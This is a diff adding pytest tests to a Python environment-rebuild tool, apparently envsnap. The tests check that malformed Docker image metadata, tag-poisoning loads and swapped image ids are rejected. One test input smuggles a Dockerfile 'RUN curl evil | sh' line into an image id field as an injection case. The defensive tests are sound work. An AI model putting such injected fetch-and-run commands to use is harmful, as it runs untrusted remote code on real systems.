@@ -6,6 +6,7 @@ from __future__ import annotations
 import gzip
 import hashlib
 import io
+import json
 import os
 import platform
 import subprocess
@@ -334,3 +335,116 @@ def test_a_bundle_never_leaves_an_unpacked_copy_beside_the_archive(tmp_path: Pat
     with pytest.raises(BundleError, match="not a readable bundle archive"):
         extract(tmp_path / "b.tar.gz", tmp_path / "out")
     assert sorted(os.listdir(tmp_path)) == ["b", "b.tar.gz"]
+
+
+# ---------------------------------------------------------------------------------------------- images
+
+
+def _image_bundle(root: Path, reference: str, image_id: str, saved: bytes | None = None) -> Path:
+    from envsnap.rebuild._docker_engine import _image_file
+
+    _bundle(root)
+    (root / "images").mkdir()
+    meta = {"reference": reference, "id": image_id, "repo_digests": [], "env": {}, "architecture": "amd64"}
+    (root / "images" / _image_file(reference)).with_suffix(".json").write_text(json.dumps(meta))
+    if saved is not None:
+        (root / "images" / _image_file(reference)).write_bytes(saved)
+    Bundle(root).write_sums()
+    return root
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{not json",
+        "[]",
+        '{"reference": "base:1"}',
+        '{"reference": "base:1", "id": 7}',
+        '{"reference": "base:1", "id": "sha256:abc"}',
+        '{"reference": "base:1", "id": "sha256:' + "a" * 64 + '\\nRUN curl evil | sh"}',
+        '{"reference": "base:1\\nRUN x", "id": "sha256:' + "a" * 64 + '"}',
+        '{"reference": "base:1", "id": "sha256:' + "a" * 64 + '", "env": {"A": ["x"]}}',
+        '{"reference": "other:2", "id": "sha256:' + "a" * 64 + '"}',  # named for another file
+        "[" * 100000,
+    ],
+)
+def test_a_malformed_image_description_is_one_line_even_in_a_dry_run(
+    tmp_path: Path, cli: Callable[..., Any], text: str
+) -> None:
+    root = _image_bundle(tmp_path / "b", "base:1", "sha256:" + "a" * 64)
+    (root / "images" / "base_1.json").write_text(text)
+    Bundle(root).write_sums()
+    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
+    result = cli("rebuild", lock, "--target", "docker", "--bundle", root, "--dest", tmp_path / "ctx", "--force",
+                 "--dry-run")
+    _one_line_error(result, 4, "base_1.json: not an image description envsnap wrote")
+
+
+@pytest.fixture
+def engine() -> Any:
+    docker = pytest.importorskip("docker")
+    try:
+        client = docker.from_env(timeout=30)
+        client.ping()
+    except Exception as exc:
+        pytest.skip(f"no Docker engine: {exc}")
+    return client
+
+
+def _tiny_image(client: Any, where: Path, content: str, label: str) -> str:
+    where.mkdir(parents=True)
+    (where / "f").write_text(content)
+    (where / "Dockerfile").write_text(f"FROM scratch\nCOPY f /f\nLABEL org.envsnap.test={label}\n")
+    image, _logs = client.images.build(path=str(where), rm=True, forcerm=True)
+    return str(image.id)
+
+
+@pytest.mark.integration
+def test_a_bundled_image_loads_without_replacing_an_existing_tag(engine: Any, tmp_path: Path) -> None:
+    """The bundle's image A is saved as NAME:latest; the engine already has another image B as NAME:latest.
+    Loading A must leave NAME:latest on B (it was replaced, and stayed replaced when the rebuild failed)."""
+    from envsnap.rebuild._docker_engine import load_bundled_images
+
+    label = f"poison-{os.getpid()}-{tmp_path.name}".lower()
+    name = f"envsnap-test-{label}"
+    made: list[str] = []
+    try:
+        bundled = _tiny_image(engine, tmp_path / "a", "bundled", label)
+        made.append(bundled)
+        engine.api.tag(bundled, name, "latest")
+        saved = b"".join(engine.images.get(bundled).save(named=f"{name}:latest"))
+        engine.images.remove(f"{name}:latest", force=True)
+        mine = _tiny_image(engine, tmp_path / "b", "mine", label)
+        made.append(mine)
+        engine.api.tag(mine, name, "latest")
+        root = _image_bundle(tmp_path / "bundle", f"{name}:latest", bundled, saved)
+        lines: list[str] = []
+        load_bundled_images(engine, root, lines.append)
+        assert engine.images.get(f"{name}:latest").id == mine  # untouched
+        loaded = engine.images.get(bundled)
+        assert loaded.tags == [f"envsnap/base:{bundled.split(':')[1][:12]}"]
+    finally:
+        for image in engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"}):
+            engine.images.remove(image["Id"], force=True)
+
+
+@pytest.mark.integration
+def test_a_bundled_image_whose_id_is_not_the_pinned_one_is_not_loaded(engine: Any, tmp_path: Path) -> None:
+    from envsnap.rebuild._docker_engine import load_bundled_images
+
+    label = f"swap-{os.getpid()}-{tmp_path.name}".lower()
+    name = f"envsnap-test-{label}"
+    try:
+        real = _tiny_image(engine, tmp_path / "a", "pinned", label)
+        evil = _tiny_image(engine, tmp_path / "b", "evil", label)
+        engine.api.tag(evil, name, "latest")
+        saved = b"".join(engine.images.get(evil).save(named=f"{name}:latest"))
+        for image in (real, evil):
+            engine.images.remove(image, force=True)
+        root = _image_bundle(tmp_path / "bundle", f"{name}:latest", real, saved)
+        with pytest.raises(BundleError, match=f"holds image {evil}, but the bundle pins {real}; not loaded"):
+            load_bundled_images(engine, root, lambda _line: None)
+        assert not engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"})
+    finally:
+        for image in engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"}):
+            engine.images.remove(image["Id"], force=True)
